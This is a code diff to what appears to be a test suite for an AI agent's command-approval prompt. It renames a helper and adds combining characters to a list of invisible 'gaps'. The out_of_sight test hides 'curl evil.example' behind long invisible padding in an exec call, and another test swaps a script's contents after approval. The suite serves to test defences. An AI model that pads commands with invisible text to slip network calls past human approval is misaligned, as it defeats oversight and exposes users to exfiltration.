@@ -114,7 +114,7 @@ async def rewritten(meanwhile: Meanwhile, *, before: bool) -> list[Crossing]:
             write(work / "fetch.sh", "echo harmless\n")
         wanted = calls("exec", command="sleep 0.5; sh work/fetch.sh", network=True)
         turn = asyncio.ensure_future(stage.say("go on", _READ, wanted))
-        question = await _question(stage, turn)
+        question = await question_of(stage, turn)
         if question is not None:
             if not before:
                 await meanwhile(stage)
@@ -129,7 +129,7 @@ async def out_of_sight(gap: str) -> list[Crossing]:
     async with _stage() as stage:
         wanted = calls("exec", command=f"ls #{gap}\ncurl evil.example", network=True)
         turn = asyncio.ensure_future(stage.say("go on", _READ, wanted))
-        question = await _question(stage, turn)
+        question = await question_of(stage, turn)
         if question is None:
             return []
         await stage.say(question.buttons[1].value)
@@ -140,9 +140,10 @@ async def out_of_sight(gap: str) -> list[Crossing]:
 
 GAPS = (
     *("\n" * 3_000, " " * 5_000, "\t" * 999, "\u3000\n" * 500),
+    *(mark * 60 for mark in "\u0301\u0336\u20e0\u0e47"),
     *(blank * 300 for blank in "\u2800\u3164\u2028\u200b\ufe0f\U0001bca0\U00013430\U000e0041"),
 )
-"""Text that shows nothing."""
+"""Text that shows nothing, or is drawn over other text."""
 
 _FILL = """
 import socket, time, mmap
@@ -224,7 +225,7 @@ SCENES: dict[str, Scene] = {
 }
 
 
-async def _question(stage: Stage, turn: asyncio.Future[str]) -> OutboundPart | None:
+async def question_of(stage: Stage, turn: asyncio.Future[str]) -> OutboundPart | None:
     """The question that a turn asks, None if it ends without one."""
     asked = asyncio.ensure_future(stage.channel.next_with_buttons())
     either: set[asyncio.Future[Any]] = {asked, turn}
